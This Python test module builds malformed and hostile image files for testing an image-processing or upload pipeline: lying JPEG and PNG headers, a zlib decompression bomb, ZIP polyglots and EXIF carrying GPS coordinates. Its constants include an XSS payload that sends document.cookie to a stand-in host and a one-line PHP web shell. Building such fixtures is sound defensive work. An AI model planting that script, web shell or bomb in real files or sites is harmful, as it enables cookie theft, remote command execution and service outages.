"""The parts of picture files, so that tests can put them together wrongly."""

import struct
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZipFile
from zlib import Z_FULL_FLUSH, compress, compressobj, crc32

from PIL import Image

SOI, EOI = b"\xff\xd8", b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>fetch('//kilroy.example/'+document.cookie)</script>"
PHP = b"<?php system($_GET['kilroy-was-here-0123456789']); __HALT_COMPILER(); ?>"
SECRET = b"kilroy was here and kept his secret 0123456789 in this very file"


@dataclass(frozen=True)
class Hostile:
    """A file that means harm: `foreign` may not be kept, its picture as `taken` says (None: either)."""

    content: bytes
    foreign: tuple[bytes, ...] = ()
    taken: bool | None = False


def segment(marker: int, body: bytes, length: int | None = None) -> bytes:
    """A JPEG segment; `length` lies about its own."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2 if length is None else length) + body


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    """A JPEG with these right after its start."""
    return SOI + b"".join(segments) + jpeg[2:]


def pixels(jpeg: bytes) -> bytes:
    """The coded pixels of a JPEG of one scan: what stands before them many JPEGs have alike."""
    return jpeg[jpeg.rfind(b"\xff\xda") + 14 : -2]


def frame(width: int, height: int, marker: int = 0xC0, precision: int = 8) -> bytes:
    """The segment in which a JPEG tells its sides."""
    head = struct.pack(">BHHB", precision, height, width, 3)
    return segment(marker, head + bytes((1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0)))


def framed(jpeg: bytes, new: bytes) -> bytes:
    """A JPEG whose frame is replaced by this one."""
    at = next(at for at in (jpeg.find(b"\xff\xc0"), jpeg.find(b"\xff\xc2")) if at > 0)
    return jpeg[:at] + new + jpeg[at + 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big") :]


def chunk(name: bytes, body: bytes = b"", *, crc: int | None = None, length: int | None = None) -> bytes:
    """A PNG chunk; `crc` and `length` lie about their own."""
    told = len(body) if length is None else length
    return (
        struct.pack(">I", told) + name + body + struct.pack(">I", crc32(name + body) if crc is None else crc)
    )


def header(width: int, height: int, depth: int = 8, colours: int = 2, interlace: int = 0) -> bytes:
    """The chunk in which a PNG tells its sides."""
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, interlace))


def plain_png(width: int = 300, height: int = 300, *inside: bytes, end: bytes = chunk(b"IEND")) -> bytes:
    """A black PNG with these chunks before its pixels."""
    rows = compress(bytes((1 + 3 * width) * height))
    return PNG + header(width, height) + b"".join(inside) + chunk(b"IDAT", rows) + end


def zeros_deflated(size: int, most: int = 1_990_000) -> bytes:
    """So many zeros, or as many as fit `most` bytes, deflated a thousandfold."""
    packer = compressobj(9, wbits=-15)
    block = packer.compress(bytes(1_000_000)) + packer.flush(Z_FULL_FLUSH)
    blocks = min(size // 1_000_000, (most - 2000) // len(block))
    rest = min(size - blocks * 1_000_000, 1_000_000)
    total = blocks * 1_000_000 + rest
    end = packer.compress(bytes(rest)) + packer.flush()
    return b"\x78\xda" + block * blocks + end + struct.pack(">I", (total % 65_521) << 16 | 1)


def zip_of(content: bytes) -> bytes:
    """A ZIP archive in which this lies uncompressed."""
    file = BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("kilroy.class", content)
    return file.getvalue()


def exif(*tags: tuple[int, int, int, bytes], data: bytes = b"", big: bool = True) -> bytes:
    """A block of EXIF: tag, kind, count and four bytes each, then data."""
    order = ">" if big else "<"
    start = (b"MM\0*" if big else b"II*\0") + struct.pack(order + "IH", 8, len(tags))
    entries = b"".join(
        struct.pack(order + "HHI", tag, kind, count) + value for tag, kind, count, value in tags
    )
    return start + entries + bytes(4) + data


def where_taken() -> bytes:
    """EXIF that tells the place, Monas in Jakarta, and a name."""
    told = Image.Exif()
    told[0x010E] = SECRET.decode()
    told.get_ifd(0x8825).update({1: "S", 2: (6.0, 10.0, 31.0), 3: "E", 4: (106.0, 49.0, 37.0)})
    return told.tobytes()
